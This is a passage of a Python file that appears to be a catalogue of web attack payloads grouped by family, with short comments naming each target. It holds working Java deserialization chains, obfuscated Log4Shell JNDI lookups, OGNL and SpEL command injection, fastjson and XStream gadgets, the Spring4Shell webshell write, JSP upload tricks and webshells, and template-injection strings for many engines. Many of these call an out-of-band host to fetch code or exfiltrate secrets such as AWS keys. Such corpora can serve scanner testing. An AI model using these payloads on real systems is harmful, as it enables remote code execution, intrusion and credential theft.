    (_b64(_chain(ROME_HEAD, "curl http://rome." + OOB)), "cookie", "rs-cookie"),
    (_latin(_chain(ROME_HEAD, "id")), "form", "rs-query"),
    (_b64(_chain(HIBERNATE_HEAD, "nslookup hibernate1." + OOB)), "form", "rs-form"),
    (_b64(_chain(JRMP_HEAD, "203.0.113.10:1099")), "query", "rs-query"),
    (_b64(gzip.compress(_chain(CC_HEAD, "id"), mtime=0)), "form", "rs-form"),
    ('{"@class":"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource","userOverridesAsString":"HexAsciiSerializedMap:'
     + _chain(CC_HEAD, "id").hex() + ';"}', "json-body", "rs-json-body"),
    ('["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"ldap://' + OOB + '/c3p0","loginTimeout":0}]',
     "json-body", "rs-json-body"),
    (CC + "InvokerTransformer", "json", "rs-form"),
]
# Log4Shell: the lookup pasted into every header and field a report lists (User-Agent, X-Api-Version, Referer,
# username, search), nested and obfuscated the way the second wave of reports showed;
# target: Log4j 2 (2.0-beta9 to 2.14.1, and 2.15.0's Thread Context bypass)
LOG4SHELL: list[Entry] = [
    "${jndi:ldap://log4j-ua." + OOB + "/a}",
    "${jndi:dns://log4j-dns." + OOB + "}",
    "${jndi:rmi://203.0.113.10:1099/Exploit}",
    "${jndi:ldaps://log4j-tls." + OOB + "/a}",
    "${jndi:iiop://log4j-iiop." + OOB + "/a}",
    "${jndi:ldap://${hostName}." + OOB + "/a}",
    "${jndi:ldap://${sys:java.version}." + OOB + "/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}." + OOB + "/a}",
    "${${lower:jndi}:${lower:rmi}://" + OOB + "/a}",
    "${${upper:j}ndi:ldap://" + OOB + "/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://" + OOB + "/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//" + OOB + "/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://" + OOB + "/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://" + OOB + "/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2F" + OOB + "%2Fa%7D",
    "${jndi:ldap://127.0.0.1#" + OOB + ":1389/a}",
    "admin@example.com${jndi:ldap://" + OOB + "/email}",
    "John ${jndi:ldap://" + OOB + "/name} Doe",
    "${jndi:${lower:l}${lower:d}a${lower:p}://" + OOB + "/a}",
    "${jndi:ldap://" + OOB + ":1389/Basic/Command/Base64/" + _b64s("touch /tmp/log4j") + "}",
    "${${::-$}{jndi:ldap://" + OOB + "/a}}",
    "2021-12-10 ${jndi:ldap://log4j-date." + OOB + "/d}",
]
OGNL_S2_045 = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
    "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance("
    "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil."
    "getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder("
    "{'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils"
    "@toString(#process.getInputStream()))}")
CONFLUENCE_OGNL = (
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),"
    "'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd-Response',#a))}")
SCG_ROUTE = (
    '{"id":"h1poc","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.'
    'springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]'
    '{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}')
# Expression-language injection: OGNL (Struts 2 Content-Type, S2-016 redirect:, Confluence's URL), SpEL (Spring
# Cloud Function's routing header, Spring Cloud Gateway's actuator), MVEL, JEXL, JSP / JSF EL (Nexus roles);
# target: the expression evaluator of each product
EXPRESSION_LANGUAGE: list[Entry] = [
    (OGNL_S2_045, "header:Content-Type", "rs-header:Content-Type"),
    (CONFLUENCE_OGNL, "path", "rs-query"),
    "%{1337*1337}",
    "redirect:${#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false,#f=#_memberAccess.getClass()."
    "getDeclaredField(\"allowStaticMethodAccess\"),#f.setAccessible(true),#f.set(#_memberAccess,true),"
    "@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream())}",
    "${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec(\"id\")}",
    "${T(java.lang.Runtime).getRuntime().exec('nslookup spel." + OOB + "')}",
    "#{T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}",
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")", "header:spring.cloud.function.routing-expression",
     "rs-header:spring.cloud.function.routing-expression"),
    (SCG_ROUTE, "json-body", "rs-json-body"),
    "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()",
    "#{T(java.lang.System).getenv()}",
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "new java.lang.ProcessBuilder({'id'}).start()",
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "${applicationScope}",
    "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"exec\",\"\".getClass()).invoke(\"\".getClass()"
    ".forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")}",
    "#{request.getClass().getClassLoader()}",
    ('{"name":"h1","roles":["$\\\\A{\'\'.getClass().forName(\'java.lang.Runtime\').getMethods()[6].invoke(null)'
     '.exec(\'touch /tmp/nexus\')}"]}', "json-body", "rs-json-body"),
    "${facesContext.getExternalContext().getSessionMap()}",
    "#{session.setAttribute(\"role\",\"admin\")}",
    "${(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec(\"id\"))}",
]
XSTREAM_PROXY = (
    "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="
    "\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>bash</string><string>"
    "-c</string><string>curl http://xstream." + OOB + "</string></command></target><action>start</action></handler>"
    "</dynamic-proxy></sorted-set>")
XSTREAM_CONTACT = (
    "<contact class='dynamic-proxy'><interface>org.company.model.Contact</interface><handler class='java.beans."
    "EventHandler'><target class='java.lang.ProcessBuilder'><command><string>id</string></command></target>"
    "<action>start</action></handler></contact>")
XMLDECODER = (
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><void class="
    "\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/bash"
    "</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void>"
    "</array><void method=\"start\"/></void></java>")
WEBLOGIC = (
    "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext "
    "xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java><void class=\"java.lang.ProcessBuilder\"><array "
    "class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/sh</string></void><void index=\"1\">"
    "<string>-c</string></void><void index=\"2\"><string>nslookup wls." + OOB + "</string></void></array><void "
    "method=\"start\"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>")
# Polymorphic deserialization: fastjson @type (1.2.24 to 1.2.47 bypasses and the DNS probe), Jackson default
# typing (JdbcRowSetImpl, logback, Spring context, xbean, HikariCP), XStream dynamic-proxy, XMLDecoder and the
# WebLogic WorkContext envelope, SnakeYAML tags; target: those JSON / XML / YAML binders
POLYMORPHIC: list[Entry] = [
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.'
     'JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.10:1099/Exploit","autoCommit":true}}',
     "json-body", "rs-json-body"),
    ('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://' + OOB + '/a","autoCommit":true}',
     "json-body", "rs-json-body"),
    ('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"ldap://' + OOB + '/b","autoCommit":true}',
     "json-body", "rs-json-body"),
    ('{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://' + OOB + '/c","autoCommit":true}',
     "json-body", "rs-json-body"),
    ('{"@type":"java.net.Inet4Address","val":"fastjson.' + OOB + '"}', "json-body", "rs-json-body"),
    ('{{"@type":"java.net.URL","val":"http://fastjson-url.' + OOB + '"}:"x"}', "json-body", "rs-json-body"),
    ('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":"ldap://'
     + OOB + '/ibatis"}}', "json-body", "rs-json-body"),
    ('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["' + _b64(CLASS_TRANSLET)
     + '"],"_name":"a","_tfactory":{},"_outputProperties":{}}', "json-body", "rs-json-body"),
    ('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://' + OOB + '/jackson","autoCommit":true}]',
     "json-body", "rs-json-body"),
    ('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
     'INIT=RUNSCRIPT FROM \'http://' + OOB + '/inject.sql\'"}]', "json-body", "rs-json-body"),
    ('["org.springframework.context.support.FileSystemXmlApplicationContext","http://' + OOB + '/spel.xml"]',
     "json-body", "rs-json-body"),
    ('{"id":1,"obj":["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://' + OOB + '/xbean"}]}',
     "json-body", "rs-json-body"),
    ('{"@class":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://' + OOB + '/hikari"}',
     "json-body", "rs-json-body"),
    (XSTREAM_PROXY, "xml", "rs-xml"),
    (XSTREAM_CONTACT, "xml", "rs-xml"),
    (XMLDECODER, "xml", "rs-xml"),
    (WEBLOGIC, "xml", "rs-xml"),
    "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://" + OOB + "/yaml\", autoCommit: true}",
]
SPRING4SHELL = (
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if(\"j\".equals(request."
    "getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\"))."
    "getInputStream(); } %{suffix}i&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
    "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
    "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
    "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
# Class loading: Spring data binding to the class loader (Spring4Shell, CVE-2010-1622), Struts 1 / 2
# class.classLoader, URLClassLoader and defineClass from expression sinks, SnakeYAML's ScriptEngineManager,
# Jenkins @Grab; target: the JVM's class loaders
CLASS_LOADING: list[Entry] = [
    (SPRING4SHELL, "form-raw", "rs-raw-body"),
    ("class.module.classLoader.URLs[0]=0", "query-raw", "rs-query-raw"),
    ("class.module.classLoader.DefaultAssertionStatus=nonsense", "query-raw", "rs-raw-body"),
    ("class.classLoader.resources.dirContext.docBase=/", "query-raw", "rs-query-raw"),
    ("class['classLoader']['resources']['dirContext']['docBase']=/etc", "form-raw", "rs-raw-body"),
    ("class.classLoader.URLs[0]=jar:http://" + OOB + "/spring-exploit.jar!/", "form-raw", "rs-query-raw"),
    ("user.class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", "form-raw", "rs-raw-body"),
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://" + OOB + "/p.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('E',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('" + _b64(CLASS_EXEC) + "'),T(java.lang.Thread).currentThread().getContextClassLoader())"
    ".newInstance()",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + OOB
    + "/yaml-payload.jar\"]]]]",
    "@GrabResolver(name='h1', root='http://" + OOB + "/')\n@Grab(group='poc', module='poc', version='1')\n"
    "import Poc",
    "this.class.classLoader.parseClass('class X{static{\"id\".execute()}}').newInstance()",
    "new javax.management.loading.MLet().getMBeansFromURL(\"http://" + OOB + "/mlet\")",
    "java.lang.reflect.Method m=ClassLoader.class.getDeclaredMethod(\"defineClass\",byte[].class,int.class,int.class)",
]
JSP_BODY = ('<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); '
            'out.println(new BufferedReader(new InputStreamReader(p.getInputStream())).readLine()); %>')
# JSP upload: the avatar / attachment file name that makes Tomcat or another servlet container execute the
# upload (extension tricks, path parameters, traversal, CVE-2017-12617's trailing slash), and JSP code in an
# imported document; target: the servlet container's JSP compiler
JSP_UPLOAD: list[Entry] = [
    ("avatar.jsp", "multipart-filename", "rs-multipart-filename"),
    ("avatar.png.jsp", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jsp%00.png", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jsp;.png", "multipart-filename", "rs-multipart-filename"),
    ("resume.jspx", "multipart-filename", "rs-multipart-filename"),
    ("SHELL.JSP", "multipart-filename", "rs-multipart-filename"),
    ("cmd.jsp.", "multipart-filename", "rs-multipart-filename"),
    ("shell.jsp::$DATA", "multipart-filename", "rs-multipart-filename"),
    ("../../webapps/ROOT/cmd.jsp", "multipart-filename", "rs-multipart-filename"),
    ("header.jspf", "multipart-filename", "rs-multipart-filename"),
    ("cmd.jsp/", "multipart-filename", "rs-multipart-filename"),
    ("invoice.pdf.jsp ", "multipart-filename", "rs-multipart-filename"),
    "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
    "<jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"c\"));</jsp:scriptlet>",
    "<%@ page import=\"java.util.*,java.io.*\"%><% if (request.getParameter(\"cmd\") != null) { Process p = "
    "Runtime.getRuntime().exec(request.getParameter(\"cmd\")); } %>",
]

# --- ssti ------------------------------------------------------------------------------------------------------
# Jinja2 (Flask): the name-field probe, config leak, then the globals / subclasses routes to os; target: Jinja2
JINJA2: list[Entry] = [
    "{{7*'7'}}",
    "John{{config.items()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    r"{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')"
    r"('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')"
    r"('id')|attr('read')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module."
    "__builtins__['__import__']('os').popen(\"id\").read()}}{%endif%}{% endfor %}",
    "{{url_for.__globals__.os.environ}}",
    "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "a@example.com{{config.SECRET_KEY}}",
]
# Twig (Symfony, Craft, Grav): filter callbacks to system, the 1.x _self.env trick, Symfony's file_excerpt;
# target: Twig
TWIG: list[Entry] = [
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('system')|join}}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{['id',\"\"]|sort('system')}}",
    "{{[0]|reduce('system','id')}}",
    "{{_self.env.setCache(\"ftp://203.0.113.10:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    "{{dump(app)}}",
    "{{['id']|map('passthru')}}",
    "{{craft.app.config.general.securityKey}}",
]
# FreeMarker (Liferay, Alfresco, Halo, CMS page editors): Execute / ObjectConstructor / JythonRuntime via ?new,
# the ?api sandbox escape, .version fingerprinting; target: FreeMarker
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign value=\"freemarker.template.utility.ObjectConstructor\"?new()>${value(\"java.lang.ProcessBuilder\","
    "\"id\").start()}",
    "<#assign value=\"freemarker.template.utility.JythonRuntime\"?new()><@value>import os;os.system(\"id\")</@value>",
    "${.version}",
    "<#assign cl=object?api.class.getClassLoader()>${cl.loadClass(\"java.lang.Runtime\")}",
    "Hi ${\"freemarker.template.utility.Execute\"?new()(\"nslookup fm." + OOB + "\")}",
    "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"curl http://" + OOB + "\")}",
]
# Velocity (Solr's VelocityResponseWriter, Confluence widgets, Atlassian mail templates): reflection from a string
# to java.lang.Runtime, ClassTool; target: Apache Velocity
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    ("v.template=custom&v.template.custom=#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))"
     "#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()", "query-raw", "rs-query-raw"),
    "#set($s=\"\")$s.getClass().forName(\"java.lang.System\").getenv()",
    "#set($rt=$s.getClass().forName(\"java.lang.Runtime\").getRuntime())$rt.exec(\"nslookup vm." + OOB + "\")",
    "$request.getClass().getClassLoader()",
    "#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))$ex.waitFor()",
    "#foreach($i in [1..9999999])#foreach($j in [1..9999999])x#end#end",
]
# Thymeleaf (Spring MVC view-name manipulation through lang / section / return values, user-controlled
# fragments); target: Thymeleaf with SpEL or OGNL
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__$%7bT(java.lang.Runtime).getRuntime().exec(%22id%22)%7d__::.x",
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec(\"calc.exe\")}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"",
    "__${T(java.lang.Thread).sleep(10000)}__::.x",
]
# ERB (Rails views and mail templates rendered from user text); target: ERB / Ruby
ERB: list[Entry] = [
    "<%= 7*7 %>",
    "<%= `id` %>",
    "<%= system(\"cat /etc/passwd\") %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= ENV.inspect %>",
    "<%= Rails.application.secrets.secret_key_base %>",
    "<%= %x(whoami) %>",
    "Dear <%= Kernel.exec(\"id\") %>",
]
# Smarty (PHP CMSes, shop mail templates): {php}, direct calls, writeFile, the {function} injection;
# target: Smarty
SMARTY: list[Entry] = [
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{$smarty.version}",
    "{if system('id')}{/if}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{math equation=\"7*7\"}",
    "{function name='x(){};system(\"id\");function '}{/function}",
    "{fetch file='/etc/passwd'}",
    "{include file='/etc/passwd'}",
]
HB_RCE = (
    "{{#with \"s\" as |string|}}\n  {{#with \"e\"}}\n    {{#with split as |conslist|}}\n      {{this.pop}}\n"
    "      {{this.push (lookup string.sub \"constructor\")}}\n      {{this.pop}}\n"
    "      {{#with string.split as |codelist|}}\n        {{this.pop}}\n"
    "        {{this.push \"return require('child_process').execSync('id');\"}}\n        {{this.pop}}\n"
    "        {{#each conslist}}\n          {{#with (string.sub.apply 0 codelist)}}\n            {{this}}\n"
    "          {{/with}}\n        {{/each}}\n      {{/with}}\n    {{/with}}\n  {{/with}}\n{{/with}}")
# Handlebars (Node.js mail / invoice templates): the string.sub.apply constructor chain from the Shopify report,
# lookup of constructor; target: Handlebars
HANDLEBARS: list[Entry] = [
    HB_RCE,
    HB_RCE.replace("\n", "").replace("  ", ""),
    HB_RCE.replace("execSync('id')", "execSync('curl " + OOB + "')").replace("require(", "process.mainModule"
                                                                                       ".require("),
    "{{lookup (lookup this \"constructor\") \"constructor\"}}",
    "{{#with this as |obj|}}{{#with (obj.constructor.keys obj)}}{{this}}{{/with}}{{/with}}",
    "{{#each this}}{{@key}}={{this}}{{/each}}",
    "{{#with \"constructor\"}}{{#with split as |a|}}{{this.pop}}{{/with}}{{/with}}",
    "{{this.constructor.constructor \"return process.env\"}}",
]
# Pug (Express views compiled from user text): #{} interpolation, unbuffered "-" code, include; target: Pug
PUG: list[Entry] = [
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
    "- global.process.mainModule.require('child_process').execSync('id')",
    "#{7*7}",
    "= global.process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()",
    "p= process.env",
    "- process.mainModule.require('fs').writeFileSync('/tmp/pug-h1','poc')",
    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "include ../../../../etc/passwd",
    "- var require = global.process.mainModule.require\n= require('child_process').execSync('id')",
]
# Mako (Pylons / Pyramid apps): the runtime / cache util route to os, <% %> blocks, <%! %> imports;
# target: Mako
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system(\"id\")}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "<%! import os %>${os.system('id')}",
    "${self.module.runtime.util.os.popen(\"id\").read()}",
    "${self.template.module.cache.util.os.system(\"id\")}",
    "${\"z\".join(\"ab\")}",
    "<%include file=\"/etc/passwd\"/>",
    "<%import subprocess%>${subprocess.getoutput('id')}",
    "${__import__('subprocess').check_output(['id'])}",
]
# Tornado templates: {% import %}, {% raw %}, the handler's settings (cookie_secret); target: tornado.template
TORNADO: list[Entry] = [
    "{% import os %}{{os.popen(\"id\").read()}}",
    "{{__import__(\"os\").system(\"id\")}}",
    "{% raw __import__('os').popen('id').read() %}",
    "{{handler.settings}}",
    "{{handler.application.settings[\"cookie_secret\"]}}",
    "{% include \"/etc/passwd\" %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{globals()}}",
    "{% import subprocess %}{{ subprocess.check_output('id', shell=True) }}",
]
# Nunjucks (Express / Eleventy): range / cycler / joiner / lipsum constructors; target: Nunjucks
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ cycler.constructor(\"return process.env\")() }}",
    "{{joiner.constructor(\"return process.mainModule.require('child_process').execSync('cat /etc/passwd')\")()}}",
    "{{lipsum.constructor(\"return process.mainModule.require('child_process').execSync('whoami').toString()\")()}}",
    "{{ \"\".constructor.constructor(\"return process\")().env }}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('curl " + OOB
    + "')\")()}}",
    "{% set p = range.constructor('return process')() %}{{ p.exit() }}",
    "{{ [].constructor.constructor(\"return process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")"
    "() }}",
]
# EJS (Express res.render with user options): <%= %> code, include, the settings[view options] pollution of
# CVE-2022-29078; target: EJS
EJS: list[Entry] = [
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>",
    "<%= 1337*1337 %>",
    "<%- include('/etc/passwd') %>",
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('touch "
     "/tmp/ejs');s", "query-raw", "rs-query-raw"),
    ("settings[view options][escapeFunction]=1;return global.process.mainModule.constructor._load('child_process')"
     ".execSync('id');&settings[view options][client]=true", "query-raw", "rs-raw-body"),
    "<%= JSON.stringify(process.env) %>",
    "<% require('child_process').exec('id') %>",
]
# Pebble (Spring apps with Pebble views): reflection through a variable's class and (1).TYPE; target: Pebble
PEBBLE: list[Entry] = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ beans.get(\"jacksonObjectMapper\") }}",
    "{{ (1).TYPE.forName('java.lang.System').getenv() }}",
    "{% include '/etc/passwd' %}",
    "{{ request.getClass().getClassLoader() }}",
    "{{ \"\".getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"nslookup pebble." + OOB + "\") }}",
]
# Razor (ASP.NET apps compiling user templates, e.g. RazorEngine): Process.Start, file reads; target: Razor / .NET
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@(System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\"))",
    "@{ System.Diagnostics.Process.Start(\"powershell\",\"-c iwr http://" + OOB + "\"); }",
    "@(6*7)",
    "@Environment.MachineName",
    "@{ var h = new System.Net.WebClient().DownloadString(\"http://razor." + OOB + "/\"); }@h",
    "@string.Join(\",\", System.IO.Directory.GetFiles(\"C:\\\\inetpub\\\\wwwroot\"))",
    "@System.IO.File.WriteAllText(\"C:\\\\inetpub\\\\wwwroot\\\\h1.aspx\",\"<%@ Page Language='C#' %>\")",
]
# Go templates (text/template with the app's data, Hugo, Helm / Sprig, gomplate, consul-template):
# the struct dump and the function maps that read files and the environment; target: Go text/template
GO_TEMPLATES: list[Entry] = [
    "{{.}}",
    "{{ printf \"%#v\" . }}",
    "{{define \"T1\"}}ONE{{end}}{{template \"T1\"}}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ os.ReadFile \"/etc/passwd\" }}",
    "{{ getenv \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ env \"DATABASE_URL\" }}",
    "{{ file.Read \"/etc/passwd\" }}",
    "{{ file \"/etc/passwd\" }}",
    "{{ plugin \"/bin/sh\" \"-c\" \"id\" }}",
]
# Liquid (Shopify themes, Jekyll, LiquidJS): the times probe, include traversal, data leaks, loops; target: Liquid
LIQUID: list[Entry] = [
    "{{ 7 | times: 7 }}",
    "{% include '../../../../etc/passwd' %}",
    "{% include_relative ../../../../etc/passwd %}",
    "{% render '../../../../etc/passwd' %}",
    "{{ site.data | jsonify }}",
    "{{ settings | json }}",
    "{{ shop.metafields | json }}",
    "{% for i in (1..100000000) %}{% for j in (1..100000000) %}x{% endfor %}{% endfor %}",
    "{{ 'h1' | append: 'poc' | upcase }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODEJS_INJECTION),
    ("generic", "nodejs-dos", NODEJS_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_CLOUD),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY_INJECTION),
    ("generic", "perl-injection", PERL_INJECTION),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASS_NAMES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SERIALIZATION),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EXPRESSION_LANGUAGE),
    ("java", "polymorphic-deserialization", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
